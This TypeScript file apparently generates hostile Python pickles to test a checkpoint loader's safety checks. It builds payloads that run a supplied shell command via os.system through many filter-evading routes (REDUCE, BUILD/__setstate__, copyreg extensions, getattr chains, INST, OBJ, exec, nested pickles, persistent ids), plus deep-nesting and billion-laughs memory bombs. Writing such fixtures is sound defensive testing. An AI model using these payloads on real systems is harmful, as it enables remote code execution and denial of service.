import {
  ascii,
  bytes,
  call,
  dict,
  global,
  integer,
  joined,
  list,
  text,
  tuple,
  uint32,
  type Part,
} from "./mini-pickler";

export interface HostilePickle {
  readonly name: string;
  /** Without PROTO and STOP, to stand wherever a pickle does. */
  readonly object: Part;
  readonly code: "CHECKPOINT_UNSAFE" | "CHECKPOINT_CORRUPT";
  /** Whether Python's own pickle.loads runs the command: these prove that the others would be no idle threat. */
  readonly runs: boolean;
}

const memo = (index: number): Part => [ascii("q"), bytes(index)];
const recall = (index: number): Part => [ascii("h"), bytes(index)];
const build = ascii("b");
const pop = ascii("0");

/** @param command a shell command without quotes; where it has run, something shows it */
export function hostilePickles(command: string): readonly HostilePickle[] {
  const run = call(global("os", "system"), text(command));
  const unsafe = { code: "CHECKPOINT_UNSAFE", runs: true } as const;
  const idle = { code: "CHECKPOINT_UNSAFE", runs: false } as const;
  const corrupt = { code: "CHECKPOINT_CORRUPT", runs: false } as const;
  return [
    { name: "os.system by REDUCE", object: run, ...unsafe },
    {
      name: "os.system as the __setstate__ that BUILD calls",
      object: [
        call(global("types", "SimpleNamespace")),
        dict(["__setstate__", global("os", "system")]),
        build,
        text(command),
        build,
      ],
      ...unsafe,
    },
    {
      name: "os.system by copyreg's extension registry",
      object: [
        call(global("copyreg", "add_extension"), text("os"), text("system"), integer(240)),
        pop,
        call(bytes(0x82, 240), text(command)),
      ],
      ...unsafe,
    },
    {
      name: "a chain of getattr from __import__",
      object: call(
        call(
          global("builtins", "getattr"),
          call(global("builtins", "__import__"), text("os")),
          text("system"),
        ),
        text(command),
      ),
      ...unsafe,
    },
    {
      name: "a dotted name through what a harmless module has imported",
      object: call([text("logging"), text("os.system"), bytes(0x93)], text(command)),
      ...unsafe,
    },
    { name: "os.system by INST", object: [ascii("("), text(command), ascii("ios\nsystem\n")], ...unsafe },
    {
      name: "os.system by OBJ",
      object: [ascii("("), global("os", "system"), text(command), ascii("o")],
      ...unsafe,
    },
    {
      name: "exec mapped over source code",
      object: call(
        global("builtins", "list"),
        call(
          global("builtins", "map"),
          global("builtins", "exec"),
          list(text(`import os; os.system("${command}")`)),
        ),
      ),
      ...unsafe,
    },
    {
      name: "a pickle within a pickle",
      object: call(global("_pickle", "loads"), [
        ascii("B"),
        uint32(joined(run).length + 1),
        joined(run, ascii(".")),
      ]),
      ...unsafe,
    },
    {
      name: "a method called through operator",
      object: call(call(global("operator", "methodcaller"), text("system"), text(command)), integer(0)),
      ...idle,
    },
    {
      name: "a persistent id with a module's source",
      object: [
        tuple(text("module"), global("my", "Net"), text("net.py"), text(`import os; ${command}`)),
        ascii("Q"),
      ],
      ...idle,
    },
    {
      name: "a persistent id whose storage class is os.system",
      object: [
        tuple(text("storage"), global("os", "system"), text(command), text("cpu"), integer(1)),
        ascii("Q"),
      ],
      ...idle,
    },
    {
      name: "bytes that torch.storage loads",
      object: call(global("torch.storage", "_load_from_bytes"), text(command)),
      ...idle,
    },
    {
      name: "lists in lists, 10^6 deep",
      object: [Buffer.alloc(1_000_000, "]"), Buffer.alloc(999_999, "a")],
      ...corrupt,
    },
    {
      name: "a key of tuples in tuples, 10^6 deep",
      object: [ascii("})"), Buffer.alloc(1_000_000, 0x85), ascii("Ns")],
      ...corrupt,
    },
    {
      name: "a billion laughs by way of the memo",
      object: [
        list(text("ha")),
        ...Array.from({ length: 100 }, (_, level): Part => {
          return [memo(level), pop, list(...Array.from({ length: 10 }, () => recall(level)))];
        }),
      ],
      ...corrupt,
    },
    {
      name: "a device named by a billion laughs",
      object: call(global("torch", "device"), [
        list(text("ha")),
        ...Array.from({ length: 60 }, (_, level): Part => [
          memo(level),
          pop,
          list(recall(level), recall(level)),
        ]),
      ]),
      ...corrupt,
    },
  ];
}
